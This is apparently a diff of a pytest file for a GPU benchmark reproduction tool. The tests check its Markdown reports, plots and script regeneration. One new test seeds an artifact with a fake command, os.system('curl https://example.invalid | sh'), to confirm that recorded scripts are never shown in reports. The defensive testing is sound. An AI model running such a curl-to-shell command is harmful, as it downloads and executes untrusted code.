@@ -4,10 +4,13 @@ from __future__ import annotations
 
 import copy
 import json
+import os
 import re
 import shutil
 import subprocess
+import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 from markdown_it import MarkdownIt
@@ -16,7 +19,9 @@ from typer.testing import CliRunner
 from repro.cli.main import app
 from repro.core import jsonfit
 from repro.core.kernelnames import short_names
-from repro.evidence import artifact, bundle, plots, render, standalone
+from repro.evidence import artifact, bundle, markdown, plots
+from repro.evidence.report import REPORT_LIMIT, report
+from repro.run import scripts
 
 ROOT = Path(__file__).resolve().parents[1]
 RUN = ROOT / "artifacts" / "reference" / "h200" / "paired" / "all" / "20261129T233452Z-51a4de"
@@ -26,6 +31,11 @@ REPORTS = sorted((ROOT / "artifacts" / "reference").rglob("report.md"))
 @pytest.fixture(scope="module")
 def docs() -> list[dict]:
     return [artifact.load(p) for p in artifact.expand([RUN])]
+
+
+def _report(docs: list[dict], **kw: Any) -> str:
+    """The report as the CLI renders it: with what the catalog declares for these (schema 1.1) artifacts."""
+    return report(docs, declared=scripts.declared(docs), **kw)
 
 
 def _by_id(docs: list[dict], rid: str) -> dict:
@@ -41,7 +51,7 @@ def _json_blocks(text: str) -> list[str]:
 
 
 def test_summary_rows_carry_their_qualifiers_from_structured_fields(docs: list[dict]) -> None:
-    text = render.report(docs)
+    text = _report(docs)
     solve = _summary_row(text, "solve-512-cliff")
     assert "cusolver backend, batch 128" in solve and "default backend: at most 0.97x, not reproduced" in solve
     memset = _summary_row(text, "graph-memset")
@@ -52,22 +62,22 @@ def test_summary_rows_carry_their_qualifiers_from_structured_fields(docs: list[d
     changed = copy.deepcopy(_by_id(docs, "solve-512-cliff"))
     for row in changed["verdict"]["breakdown"]:
         row["backend"] = {"default": "magma", "cusolver": "cusolver"}[row["backend"]]
-    assert "magma backend: at most 0.97x" in _summary_row(render.report([changed]), "solve-512-cliff")
+    assert "magma backend: at most 0.97x" in _summary_row(_report([changed]), "solve-512-cliff")
 
 
 def test_impact_is_declared_per_repro_and_states_this_runs_cost(docs: list[dict]) -> None:
-    text = render.report(docs)
+    text = _report(docs)
     impacts = [ln for ln in text.splitlines() if ln.startswith("Impact: ")]
-    assert len(impacts) == 5  # 1.1 artifacts: taken from the catalog's declaration
+    assert len(impacts) == 5  # 1.1 artifacts: from the catalog lookup the caller passes in
     solve = next(ln for ln in impacts if "solve\\_ex 128x512x512" in ln or "solve_ex 128x512x512" in ln)
     assert "108 ms per call against 11.2 ms" in solve
     doc = copy.deepcopy(_by_id(docs, "5090-linear"))
     doc["repro"]["impact"] = "Declared in the artifact."
-    assert "Impact: Declared in the artifact. In this run" in render.report([doc])
+    assert "Impact: Declared in the artifact. In this run" in _report([doc])
 
 
 def test_not_tested_here_lists_skips_missing_seed_gpus_and_the_one_stack(docs: list[dict]) -> None:
-    text = render.report(docs)
+    text = _report(docs)
     scope = text.split("## Not tested here", 1)[1].split("\n## ", 1)[0]
     assert "TE FusedAdam" in scope and "transformer" in scope
     assert "RTX 5090 (5090-linear, lora-batch-scaling)" in scope and "GB300" in scope and "RTX 6000 Ada" in scope
@@ -75,7 +85,7 @@ def test_not_tested_here_lists_skips_missing_seed_gpus_and_the_one_stack(docs: l
     assert "One software stack only (torch 2.11.0+cu130" in scope
     doc = copy.deepcopy(_by_id(docs, "5090-linear"))
     doc["repro"]["seed_gpus"] = ["H200"]  # a seed GPU this run had is not listed as missing
-    assert "GPUs the seeds reported on" not in render.report([doc])
+    assert "GPUs the seeds reported on" not in _report([doc])
 
 
 def _worst_case(docs: list[dict]) -> list[dict]:
@@ -102,8 +112,8 @@ def _worst_case(docs: list[dict]) -> list[dict]:
 def test_worst_case_report_fits_and_keeps_evidence_intact(docs: list[dict]) -> None:
     worst = _worst_case(docs)
     assert len(_by_id(worst, "solve-512-cliff")["variants"]) == 81
-    text = render.report(worst)
-    assert len(text) <= render.REPORT_LIMIT
+    text = _report(worst)
+    assert len(text) <= REPORT_LIMIT
     blocks = _json_blocks(text)
     assert blocks
     for body in blocks:
@@ -147,26 +157,55 @@ def test_kernel_names_are_short_and_tell_apart(docs: list[dict]) -> None:
         "Memset (Device)": "Memset (Device)",
         "Memset (Unknown)": "Memset (Unknown)",
     }
-    text = render.report([adam])
+    text = _report([adam])
     cells = [ln.split(" | ")[0] for ln in text.splitlines() if ln.startswith("| `")]
     assert len(cells) == len(set(cells)) and not any("anonymou" in c for c in cells)
 
 
 def test_diffs_once_per_pair_and_small_percentages(docs: list[dict]) -> None:
-    text = render.report(docs)
+    text = _report(docs)
     pairs = re.findall(r"- \*\*(\S+) -> (\S+)\*\*", text)
     assert pairs and len({frozenset(p) for p in pairs}) == len(pairs)
     assert "0.21% of fp32" in text and "| 0% of" not in text
-    assert render.fmt_pct(96.4) == "96%" and render.fmt_pct(4.23) == "4.2%" and render.fmt_pct(0.0021) == "0.0021%"
+    pct = markdown.fmt_pct
+    assert pct(96.4) == "96%" and pct(4.23) == "4.2%" and pct(0.0021) == "0.0021%"
 
 
 def test_standalone_script_of_an_old_artifact_is_its_headline(docs: list[dict]) -> None:
-    script = standalone.from_artifact(_by_id(docs, "solve-512-cliff"))
+    script = scripts.regenerate(_by_id(docs, "solve-512-cliff"))[0]
     assert script and "[('cusolver/b128', 'cusolver', 128)]" in script
-    memset = standalone.from_artifact(_by_id(docs, "graph-memset"))  # twin headline: the torch side instead
+    memset = scripts.regenerate(_by_id(docs, "graph-memset"))[0]  # twin headline: the torch side instead
     assert memset and "memset/fill (torch graph)" in memset
-    text = render.report(docs)
+    text = _report(docs)
     assert "git checkout 86fbd015412f36e83090fd6f1003545dcee2b5a4" in text and "pip install -e ." in text
+
+
+def test_a_script_recorded_in_the_artifact_is_never_shown(docs: list[dict]) -> None:
+    doc = copy.deepcopy(_by_id(docs, "5090-linear"))
+    doc["repro"]["script"] = "import os\nos.system('curl https://example.invalid | sh')  # SWAPPED"
+    bare = report([doc])  # no catalog lookup passed in: no script, and one line saying so
+    assert "SWAPPED" not in bare and "standalone script (plain torch" not in bare
+    assert "_No standalone script could be regenerated here (the report was rendered without the catalog)._" in bare
+    shown = _report([doc])  # regenerated from the catalog's code for the artifact's id and params
+    assert "SWAPPED" not in shown and "standalone script (plain torch" in shown and "nn.Linear" in shown
+    unknown = copy.deepcopy(doc)
+    unknown["repro"]["id"] = "not-in-this-catalog"
+    text = _report([unknown])
+    assert "SWAPPED" not in text and "standalone script (plain torch" not in text
+    assert "regenerated here (not-in-this-catalog is not in this installation's catalog)" in text
+
+
+def test_rendering_reads_no_plugin_registry() -> None:
+    code = (
+        "import sys\n"
+        "from repro.evidence import artifact, compare, plots, report, scope, standalone\n"
+        "docs = [artifact.load(p) for p in artifact.expand([sys.argv[1]])]\n"
+        "report.report(docs, figures=plots.describe(docs))\n"
+        "print(sorted(m for m in sys.modules if m.startswith(('repro.run', 'repro.repros', 'repro.api'))))\n"
+    )
+    env = dict(os.environ, PYTHONPATH=str(ROOT))
+    out = subprocess.run([sys.executable, "-c", code, str(RUN)], env=env, capture_output=True, text=True, check=True)
+    assert out.stdout.strip() == "[]"
 
 
 # --------------------------------------------------------------------------- plots
@@ -174,17 +213,17 @@ def test_standalone_script_of_an_old_artifact_is_its_headline(docs: list[dict]) 
 
 def test_plots_are_drawn_with_units_and_referenced_with_their_finding(docs: list[dict], tmp_path: Path) -> None:
     pytest.importorskip("matplotlib")
-    figs = plots.figures(docs, tmp_path)
+    figs = plots.figures(docs, tmp_path, declared=scripts.declared(docs))
     assert {f.file for f in figs} == {"plots/solve-512-cliff.n.png", "plots/lora-batch-scaling.batch.png"}
     for f in figs:
         assert f.drawn and (tmp_path / f.file).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
     solve = next(f for f in figs if f.repro_id == "solve-512-cliff")
     assert "9.66x (backend cusolver, batch 128, from 511 to 512)" in solve.alt
-    text = render.report(docs, figures=figs)
-    assert f"![{render.text(solve.alt)}](plots/solve-512-cliff.n.png)" in text
+    text = _report(docs, figures=figs)
+    assert f"![{markdown.text(solve.alt)}](plots/solve-512-cliff.n.png)" in text
     # Never overwritten: a second pass keeps the file as it is.
     before = (tmp_path / solve.file).stat().st_mtime_ns
-    plots.figures(docs, tmp_path)
+    plots.figures(docs, tmp_path, declared=scripts.declared(docs))
     assert (tmp_path / solve.file).stat().st_mtime_ns == before
 
 
@@ -212,9 +251,9 @@ def test_band_plot_labels_axes_with_units(tmp_path: Path) -> None:
 
 def test_without_matplotlib_the_report_says_how_to_draw(docs: list[dict], tmp_path: Path, monkeypatch) -> None:
     monkeypatch.setattr(plots, "available", lambda: "matplotlib is not installed here")
-    figs = plots.figures(docs, tmp_path)
+    figs = plots.figures(docs, tmp_path, declared=scripts.declared(docs))
     assert figs and not any(f.drawn for f in figs) and not (tmp_path / "plots").exists()
-    text = render.report(docs, figures=figs)
+    text = _report(docs, figures=figs)
     assert "not drawn (matplotlib is not installed here; pip install 'gpu-repro\\[plots\\]'" in text
     assert "It would show: median time per solve\\_ex call" in text or "It would show: median time per solve_ex" in text
 
@@ -278,9 +317,9 @@ def test_committed_reports_render_with_tables_details_and_images_intact(path: Pa
 
 
 def test_a_fresh_report_renders_intact_too(docs: list[dict], tmp_path: Path) -> None:
-    figs = plots.describe(docs)
+    figs = plots.describe(docs, declared=scripts.declared(docs))
     figs = [plots.Figure(f.repro_id, f.sweep, f.file, f.alt, True) for f in figs]  # as if drawn
-    text = render.report(_worst_case(docs), figures=figs)
+    text = _report(_worst_case(docs), figures=figs)
     got, want = _gfm_counts(text), _expected(text)
     assert got == want and got["images"] == 2 and got["tables"] >= 15
     if shutil.which("cmark-gfm"):
@@ -294,7 +333,7 @@ def test_a_fresh_report_renders_intact_too(docs: list[dict], tmp_path: Path) -> 
 def test_a_smoke_run_says_in_its_scope_that_it_proves_only_the_pipeline(docs: list[dict]) -> None:
     doc = copy.deepcopy(_by_id(docs, "5090-linear"))
     doc["run"].update(smoke=True, device="cpu")
-    text = render.report([doc])
+    text = _report([doc])
     scope = text.split("## Not tested here", 1)[1]
     assert "5090-linear: a smoke run on cpu (shrunken sizes): it proves the pipeline, not the cliff." in scope
     assert "standalone script" not in text and "<details>" not in text  # a smoke report stays short
@@ -304,13 +343,13 @@ def test_two_machines_get_a_fingerprint_each_and_rows_say_which(docs: list[dict]
     two = copy.deepcopy(docs[:2])
     two[1]["fingerprint"]["gpu"]["uuid"] = "another-gpu"
     two[1]["fingerprint"]["gpu"]["state"]["power_w"] = 1.0  # state alone never makes a machine
-    text = render.report(two)
+    text = _report(two)
     assert text.count("full fingerprint (used by") == 2
     assert "machine A: full fingerprint (used by 5090-linear)" in text
     assert "machine B: full fingerprint (used by fused-adam-capturable)" in text
     same = copy.deepcopy(docs[:2])
     same[1]["fingerprint"]["gpu"]["state"]["power_w"] = 1.0
-    assert render.report(same).count("full fingerprint (used by") == 1
+    assert _report(same).count("full fingerprint (used by") == 1
 
 
 def test_an_error_artifact_without_variants_still_reports(docs: list[dict]) -> None:
@@ -319,6 +358,6 @@ def test_an_error_artifact_without_variants_still_reports(docs: list[dict]) -> N
     doc["verdict"].update(status="error", value=None, ci_low=None, ci_high=None, breakdown=[], variants=[])
     doc["verdict"]["finding"] = "Not measured: the repro crashed"
     doc["error"] = {"kind": "crash", "message": "segfault", "exit_code": -11, "signal": "SIGSEGV"}
-    text = render.report([doc])
+    text = _report([doc])
     assert "lora-batch-scaling: not measured (error): Not measured: the repro crashed" in text
     assert "Impact: " in text and "In this run" not in text  # no pair, no cost sentence
